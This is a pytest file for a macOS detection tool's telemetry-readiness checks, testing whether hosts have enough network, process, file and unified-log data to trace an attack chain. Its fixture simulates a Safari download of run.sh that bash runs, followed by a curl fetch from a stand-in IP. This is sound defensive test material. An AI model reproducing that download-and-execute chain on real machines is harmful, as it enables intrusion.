"""Readiness verdicts per host: each need missing, weak and present, and the cross-source checks."""

from __future__ import annotations

from builders import (
    BASH,
    CURL,
    HOUR,
    SAFARI,
    USER,
    WEBKIT_NETWORKING,
    Scenario,
    at,
    long_running,
    run,
)

from chainwatch.events import AppAction, Direction, NetworkConnection, SourceFormat
from chainwatch.policy import load_policy
from chainwatch.readiness.coverage import HostCoverage, collect, fleet_summary, render_text, verdict

POLICY = load_policy()


def _complete_host(scenario: Scenario, *, by: str = "entity", log_offset_ns: int = 0) -> None:
    """A Safari -> download -> bash -> curl -> egress story with every telemetry type."""
    safari = long_running(SAFARI, 812, at(-3600))
    helper = long_running(WEBKIT_NETWORKING, 815, at(-3600), responsible_pid=812)
    scenario.app(at(0) + log_offset_ns, AppAction.LAUNCH, bundle_id="com.apple.Safari", pid=812)
    scenario.write(at(10), helper, f"{USER}/Downloads/run.sh")
    scenario.quarantine(at(11), helper, f"{USER}/Downloads/run.sh", "0083;66f0f0f0;Safari;7F3A6E0C")
    shell = scenario.spawn(at(20), safari, 900, BASH, ("/bin/bash", f"{USER}/Downloads/run.sh"))
    curl = scenario.spawn(at(21), shell, 901, CURL, ("curl", "-fsSL", "https://203.0.113.9/x"))
    scenario.connect(at(22), curl, "203.0.113.9", by=by)


def _coverage(scenario: Scenario) -> HostCoverage:
    hosts = collect(scenario.events, POLICY)
    coverage = hosts[scenario.host]
    coverage.note_findings(run(scenario.events))
    return coverage


def test_coverage_complete_telemetry_can_complete_yes() -> None:
    scenario = Scenario("mac-ok")
    _complete_host(scenario)
    result = verdict(_coverage(scenario), POLICY.window_ns)
    assert result.can_complete, result.text
    assert {n.need: n.status for n in result.needs}["network"] == "ok"
    assert result.text.startswith("mac-ok: can complete AN1316: yes")


def test_coverage_network_without_process_cannot_complete_and_counts_stalled_chain() -> None:
    scenario = Scenario("mac-nopid")
    _complete_host(scenario)
    # Replace the attributable connection with one that names no process (a flow log without pids).
    scenario.events = [e for e in scenario.events if not isinstance(e, NetworkConnection)]
    scenario.add(NetworkConnection(time_ns=at(22), host="mac-nopid", source=SourceFormat.ECS,
                                   raw=scenario._raw(SourceFormat.ECS), process=None, dst_ip="203.0.113.9",
                                   dst_port=443, direction=Direction.OUTBOUND))
    result = verdict(_coverage(scenario), POLICY.window_ns)
    assert not result.can_complete
    assert any("carry no process" in r for r in result.reasons)
    assert any("1 chain(s) reached stage 3" in r for r in result.reasons), result.reasons


def test_coverage_network_by_pid_only_is_still_ok() -> None:
    scenario = Scenario("mac-pid")
    _complete_host(scenario, by="pid")
    result = verdict(_coverage(scenario), POLICY.window_ns)
    assert result.can_complete, result.text


def test_coverage_unified_log_hours_behind_cannot_complete() -> None:
    scenario = Scenario("mac-lag")
    _complete_host(scenario)
    # The unified log's newest record is three hours older than the Endpoint Security stream's.
    scenario.app(at(0) - 3 * HOUR, AppAction.CLICK)
    scenario.events = [e for e in scenario.events if e.source is not SourceFormat.UNIFIED_LOG
                       or e.time_ns < at(0) - HOUR]
    coverage = _coverage(scenario)
    result = verdict(coverage, POLICY.window_ns)
    assert not result.can_complete
    assert any("unifiedlog is 3.0 h behind" in r for r in result.reasons), result.reasons


def test_coverage_unified_log_within_the_window_is_not_a_blocker() -> None:
    scenario = Scenario("mac-lag-small")
    _complete_host(scenario)
    scenario.events = [e for e in scenario.events if e.source is not SourceFormat.UNIFIED_LOG]
    scenario.app(at(22) - 20 * 60 * 10**9, AppAction.LAUNCH, bundle_id="com.apple.Safari", pid=812)
    assert verdict(_coverage(scenario), POLICY.window_ns).can_complete


def test_coverage_no_unified_log_and_no_app_exec_cannot_complete() -> None:
    scenario = Scenario("mac-noul")
    _complete_host(scenario)
    scenario.events = [e for e in scenario.events if e.source is not SourceFormat.UNIFIED_LOG]
    result = verdict(_coverage(scenario), POLICY.window_ns)
    assert not result.can_complete
    assert any("no app activity" in r for r in result.reasons)


def test_coverage_no_file_events_and_no_exec_each_named() -> None:
    scenario = Scenario("mac-net-only")
    safari = long_running(SAFARI, 812, at(-3600))
    scenario.app(at(0), AppAction.LAUNCH, bundle_id="com.apple.Safari", pid=812)
    scenario.connect(at(5), safari, "203.0.113.9")
    result = verdict(_coverage(scenario), POLICY.window_ns)
    assert not result.can_complete
    assert any("no file events" in r for r in result.reasons)
    assert any("no process exec events" in r for r in result.reasons)


def test_coverage_counters_round_trip_and_merge_add_up() -> None:
    scenario = Scenario("mac-ok")
    _complete_host(scenario)
    coverage = _coverage(scenario)
    again = HostCoverage.from_dict(coverage.to_dict())
    assert again.to_dict() == coverage.to_dict()
    again.merge(coverage)
    assert again.exec_total == 2 * coverage.exec_total
    assert again.needs["network"][0] == 2 * coverage.needs["network"][0]


def test_coverage_fleet_summary_and_text_name_the_blockers() -> None:
    good, bad = Scenario("mac-ok"), Scenario("mac-nonet")
    _complete_host(good)
    _complete_host(bad)
    bad.events = [e for e in bad.events if not isinstance(e, NetworkConnection)]
    coverages = {"mac-ok": _coverage(good), "mac-nonet": _coverage(bad)}
    verdicts = [verdict(coverages[h], POLICY.window_ns) for h in sorted(coverages)]
    summary = fleet_summary(verdicts)
    assert (summary["hosts"], summary["can_complete"]) == (2, 1)
    text = render_text(verdicts, coverages)
    assert "fleet: 1 of 2 hosts can complete AN1316" in text
    assert "mac-nonet: can complete AN1316: no, because no network events" in text
